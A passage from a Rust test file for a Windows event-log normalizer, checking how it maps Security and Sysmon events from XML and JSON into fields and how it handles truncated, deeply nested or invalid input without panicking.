    );
    assert_eq!(at(&j, "event.code"), "1149");
    assert_eq!(at(&j, "event.action"), &J::Null);
    assert_eq!(j["winlog"]["user_data"]["Param3"], "198.51.100.7");
}

#[test]
fn bad_input_never_panics_and_keeps_what_it_can() {
    let n = WindowsNormalizer::builtin().unwrap();
    // Truncated XML: the fields read so far are delivered with the failure.
    let full = event_xml(
        &security_system(4624, "0x8020000000000000", 1),
        &data(LOGON_DATA),
    );
    let (r, j) = run(&n, &full[..full.len() / 2]);
    assert!(r.is_err());
    assert_eq!(at(&j, "event.code"), "4624");
    assert_eq!(at(&j, "event.action"), "logged-in");

    let mut deep_json = "[".repeat(50_000);
    deep_json.insert(0, '{');
    let mut deep_xml = String::from("<Event><EventData>");
    deep_xml.push_str(&"<Data>".repeat(50_000));
    let cases: Vec<Vec<u8>> = vec![
        b"".to_vec(),
        b"   ".to_vec(),
        b"hello world".to_vec(),
        b"{".to_vec(),
        b"{\"a\":1}".to_vec(),
        b"[1,2]".to_vec(),
        b"{\"Event\":5}".to_vec(),
        b"{\"Event\":{\"System\":[1,{\"x\":null}],\"EventData\":7}}".to_vec(),
        b"{\"winlog\":{\"event_data\":[1]}}".to_vec(),
        b"{\"EventID\":{},\"SourceName\":[]}".to_vec(),
        deep_json.into_bytes(),
        deep_xml.into_bytes(),
        b"<Event><System><EventID>\xff\xfe</EventID></System></Event>".to_vec(),
        b"<Event><System><TimeCreated SystemTime='not a time'/><EventID>99999999999</EventID><Execution ProcessID='x'/></System></Event>".to_vec(),
        b"<Event><System><EventID>4624</EventID><Provider Name='Microsoft-Windows-Security-Auditing'/></System><EventData><Data Name='IpPort'>99999</Data><Data Name='ProcessId'>0xZZ</Data><Data Name='IpAddress'>not-an-ip</Data></EventData></Event>".to_vec(),
        b"<Event><System><EventID>1</EventID><Provider Name='Microsoft-Windows-Sysmon'/></System><EventData><Data Name='Hashes'>=,==,MD5=</Data><Data Name='QueryResults'>type:;;type: 5</Data><Data Name='CommandLine'>\"\\\\\\\"</Data><Data Name='TargetObject'>\\REGISTRY</Data><Data Name='Details'>QWORD (x-y)</Data></EventData></Event>".to_vec(),
        b"<Event><System><EventID>1</EventID></System><EventData><Data Name='x'>&bogus; &#xFFFFFFFF;</Data></EventData></Event>".to_vec(),
    ];
    for raw in cases {
        let mut doc = Doc::new();
        let _ = n.normalize(&raw, &ctx(), &mut doc);
        let mut out = Vec::new();
        doc.write_json(&mut out);
        assert!(serde_json::from_slice::<J>(&out).is_ok());
    }
    // Lossy decoding keeps a record with invalid UTF-8 readable.
    let mut raw = full.clone().into_bytes();
    let pos = full.find("m.rossi").unwrap();
    raw[pos] = 0xff;
    let mut doc = Doc::new();
    n.normalize(&raw, &ctx(), &mut doc).unwrap();
    assert_eq!(doc.get_str("user.name"), Some("\u{fffd}.rossi"));
    // A deeply nested serde_json::Value (as the evtx crate could build) is cut, not recursed.
    let mut v = json!("x");
    for _ in 0..5_000 {
        let mut m = serde_json::Map::new();
        m.insert("Event".to_owned(), v);
        v = J::Object(m);
    }
    let mut doc = Doc::new();
    let _ = n.normalize_evtx_json(&v, &ctx(), &mut doc);
    std::mem::forget(v);
}

#[test]
fn dataset_matches_channels_in_any_case_and_names_others() {
    let n = WindowsNormalizer::builtin().unwrap();
    assert_eq!(n.dataset(Some(" SECURITY ")), "windows.security");
    assert_eq!(
        n.dataset(Some("microsoft-windows-sysmon/operational")),
        "windows.sysmon_operational"
    );
    assert_eq!(n.dataset(Some("Securityx")), "windows.securityx");
    assert_eq!(n.dataset(Some("Ünï Ch/Op_1")), "windows._n__ch_op_1");
    assert_eq!(n.dataset(Some("  ")), "windows.unknown");
    assert_eq!(n.dataset(None), "windows.unknown");
}

#[test]
fn event_data_keeps_the_first_of_repeated_names_and_drops_empty_items() {
    // Names chosen so that several share a filter bit with each other.
    let items: Vec<(String, String)> = (0..40)
        .map(|i| (format!("N{}x", i % 23), format!("v{i}")))
        .chain([
            ("N1x".to_owned(), "late".to_owned()),
            ("E".to_owned(), " ".to_owned()),
        ])
        .collect();
    let pairs: Vec<(&str, &str)> = items
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    let j = ok(&event_xml(
        &security_system(4624, "0x8020000000000000", 1),
        &data(&pairs),
    ));
    let obj = j["winlog"]["event_data"].as_object().unwrap();
    assert_eq!(obj.len(), 23);
    for i in 0..23 {
        assert_eq!(obj[&format!("N{i}x")], format!("v{i}"));
    }
    assert!(!obj.contains_key("E"));
}

#[test]
fn json_the_direct_reader_leaves_to_serde_still_normalizes() {
    let doc = |value: &str| {
        format!(
            r##"{{"Event":{{"System":{{"Provider":{{"#attributes":{{"Name":"Microsoft-Windows-Security-Auditing"}}}},"EventID":4624,"Channel":"Security","Keywords":"0x8020000000000000"}},"EventData":{{"TargetUserName":{value},"LogonType":3}}}}}}"##
        )
    };
    // Plain: the direct reader.
    let plain = doc(r#""ann""#);
    assert!(jread::read(&plain).is_some());
    assert_eq!(at(&ok(&plain), "user.name"), "ann");
    // A surrogate pair and a float: serde_json.
    let pair = doc(r#""ann\ud83d\ude00""#);
    assert!(jread::read(&pair).is_none());
    assert_eq!(at(&ok(&pair), "user.name"), "ann\u{1F600}");
    let float = doc("1.5");
    assert!(jread::read(&float).is_none());
    assert_eq!(at(&ok(&float), "winlog.event_data.TargetUserName"), "1.5");
    // Broken JSON keeps serde_json's message.
    let n = WindowsNormalizer::builtin().unwrap();
    let broken = &plain[..plain.len() - 3];
    let want = serde_json::from_str::<json::J>(broken).unwrap_err();
    let (r, _) = run(&n, broken);
    assert_eq!(r, Err(ParseFailure::new(format!("windows json: {want}"))));
}
